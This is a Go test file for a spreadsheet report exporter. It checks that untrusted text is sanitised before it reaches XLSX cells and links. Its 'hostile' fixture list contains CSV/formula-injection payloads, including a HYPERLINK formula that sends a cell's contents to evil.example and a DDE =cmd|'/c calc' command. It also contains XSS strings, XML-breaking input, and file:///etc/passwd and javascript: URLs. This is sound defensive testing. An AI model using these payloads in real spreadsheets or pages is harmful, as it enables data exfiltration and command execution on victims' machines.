package workbook

import (
	"bytes"
	"encoding/xml"
	"io"
	"iter"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tributary-oss/tributary/model"
	"github.com/tributary-oss/tributary/score/report"
)

// hostile are texts of strangers that a spreadsheet, a page or a terminal could be steered by.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`, `=cmd|'/c calc'!A0`, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1",
	`<script>alert(1)</script>`, `</t></is></c><c r="A1"><f>1+1</f>`, `"><img src=x onerror=alert(1)>`, "&amp;&#0;]]>", "_x0000__x000D_=1+1",
	"\u202egnp.exe\u202c", "\u2066x\u2069\u200f", "nul\x00byte", "esc\x1b[2Jape", "bell\a", "\xff\xfe broken \xc3\x28", "\ufffe\uffff", "zero\u200bwidth",
	strings.Repeat("long ", 20_000), strings.Repeat("é", 100_000), strings.Repeat("😀", 40_000), "%s%d%!n", "{0}", "#REF!", "TRUE", "1e999", "1/2",
}

func TestCleanTexts(t *testing.T) {
	for _, s := range hostile {
		c := clean(s)
		assert.True(t, utf8.ValidString(c))
		units := 0
		for _, r := range c {
			units++
			if r > 0xffff {
				units++
			}
			assert.False(t, r < ' ' || r >= 0x7f && r < 0xa0 || r >= 0x200b && r <= 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2060 && r <= 0x206f || r == 0xfffe || r == 0xffff, "%q in %.40q", r, s)
		}
		assert.LessOrEqual(t, units, longest)
		if utf8.RuneCountInString(s) > longest {
			assert.True(t, strings.HasSuffix(c, cutMark), "cut, and it says so")
			assert.Greater(t, units, longest-8)
		}
	}
	assert.Equal(t, "nul\ufffdbyte", clean("nul\x00byte"), "what is taken out is seen")
	assert.Equal(t, " =1+1", clean("\t=1+1"))
	assert.Equal(t, "=1+1", clean("=1+1"), "a string is no formula")
	assert.Equal(t, "50\u00a0%", clean("50\u00a0%"))
}

func TestWebAddresses(t *testing.T) {
	for s, want := range map[string]bool{
		"https://github.com/a/b/commit/1": true, "http://example.org/?q=1&r=%20#x": true,
		"javascript:alert(1)": false, "file:///etc/passwd": false, "https://a.example/\"&A1": false, "https://a.example/\u202e": false,
		"ftp://a.example": false, "": false, " https://a.example": false, "https://a.example/ b": false, "https://" + strings.Repeat("a", 300): false,
	} {
		assert.Equal(t, want, webAddress(s), s)
	}
}

// hostileRanking is a ranking in which every text that a document or a source brings is
// hostile.
func hostileRanking(t testing.TB, from []byte, s string) (*model.Ranking, iter.Seq2[report.StoredVerdict, error]) {
	r, err := model.ReadRanking(bytes.NewReader(from))
	require.NoError(t, err)
	r.Tender = model.About{ID: s, Title: s, Buyer: s}
	r.Gaps = []model.Gap{{Project: s, Repository: s, Reason: s}}
	r.Warnings = []string{s}
	r.Decisions = []model.DecisionShown{{Decision: model.Decision{ID: s, On: model.Artifact(s), Decide: s, Reason: s, By: s, Objection: &model.Objection{Text: s}},
		Effect: []model.Effects{{Lot: s, Bidder: s}}}}
	r.Contested = []model.ContestedShown{{Vendors: []string{s}, Outcomes: []model.ContestedOutcome{{Vendor: s}}}}
	for i := range r.Lots {
		r.Lots[i].Title = s
		for k := range r.Lots[i].Standings {
			r.Lots[i].Standings[k].Name = s
			r.Lots[i].Standings[k].Insufficient = []string{s}
		}
	}
	for i := range r.Projects {
		r.Projects[i].Tips = []model.TipShown{{Repository: s}}
		for k := range r.Projects[i].Indicators {
			r.Projects[i].Indicators[k].Reason = s
		}
		for k := range r.Projects[i].Scores {
			r.Projects[i].Scores[k].Insufficient = s
		}
		for k := range r.Projects[i].Coverage {
			r.Projects[i].Coverage[k].Reason, r.Projects[i].Coverage[k].Repository = s, s
		}
	}
	return r, func(yield func(report.StoredVerdict, error) bool) {
		for _, link := range []string{s, "https://example.org/" + s, "javascript:" + s} {
			v := report.StoredVerdict{Verdict: model.Verdict{Project: s, Repository: s, Artifact: model.Artifact(s), Role: model.Role(s), Person: s, Name: s, Rule: s, Reason: s,
				Change: model.Artifact(s), Parts: []model.Part{{Vendor: s, Part: 1, Level: model.Level(s)}}, Credits: []model.Credit{{Indicator: model.Indicator(s), Amount: 1}}},
				Name: s, Link: link, Bidders: []string{s}}
			v.At = time.Date(1, 1, 1, 0, 0, 0, 0, time.UTC)
			if !yield(v, nil) {
				return
			}
		}
	}
}

func TestHostileTexts(t *testing.T) {
	if testing.Short() {
		t.Skip("it is about what cells hold, which the run without -short shows")
	}
	demo, _ := demonstration(t, nil).score(t, nil)
	var from bytes.Buffer
	require.NoError(t, report.JSON(&from, demo))
	clean, _ := hostileRanking(t, from.Bytes(), "plain")
	harmless := formulas(t, open(t, bytesOf(t, Input{Ranking: clean}, nil)))
	for _, s := range hostile {
		r, acts := hostileRanking(t, from.Bytes(), s)
		b := bytesOf(t, Input{Ranking: r, Evidence: acts, Identify: true}, nil)
		f := open(t, b)
		for sheet, cells := range formulas(t, f) {
			if sheet == "Evidence" {
				for _, formula := range cells {
					assert.Regexp(t, `^HYPERLINK\("https://example\.org/[^"]*"\)$`, formula)
				}
				continue
			}
			assert.Equal(t, harmless[sheet], cells, "a text of a stranger made a formula on %s: %.40q", sheet, s)
		}
		for _, sheet := range f.GetSheetList() {
			links, err := f.GetHyperLinkCells(sheet, "External")
			require.NoError(t, err)
			assert.Empty(t, links)
		}
		wellFormed(t, b)
	}
}

// wellFormed reads each part of the file as XML.
func wellFormed(t *testing.T, b []byte) {
	t.Helper()
	for _, name := range []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/worksheets/sheet8.xml", "xl/charts/chart1.xml",
		"docProps/core.xml", "xl/workbook.xml"} {
		d := xml.NewDecoder(strings.NewReader(partOf(t, b, name)))
		for {
			_, err := d.Token()
			if err == io.EOF {
				break
			}
			require.NoError(t, err, name)
		}
	}
}

func TestNoPersonWithoutIdentify(t *testing.T) {
	s := demonstration(t, nil)
	r, verdicts := s.score(t, nil)
	shows := func(in Input, name string) bool {
		f := open(t, bytesOf(t, in, nil))
		found := false
		for _, sheet := range f.GetSheetList() {
			all := cellsOf(t, f, sheet)
			assert.NotRegexp(t, `[\w.]+@[\w.]+\.(example|com)`, all, sheet)
			found = found || strings.Contains(all, name)
		}
		return found
	}
	assert.False(t, shows(Input{Ranking: r, Evidence: evidence(t, r, verdicts, false)}, "Ada Kern"))
	assert.False(t, shows(Input{Ranking: r, Evidence: evidence(t, r, verdicts, true)}, "Ada Kern"), "the evidence has names, and nobody asked for them")
	assert.True(t, shows(Input{Ranking: r, Evidence: evidence(t, r, verdicts, true), Identify: true}, "Ada Kern"))
}
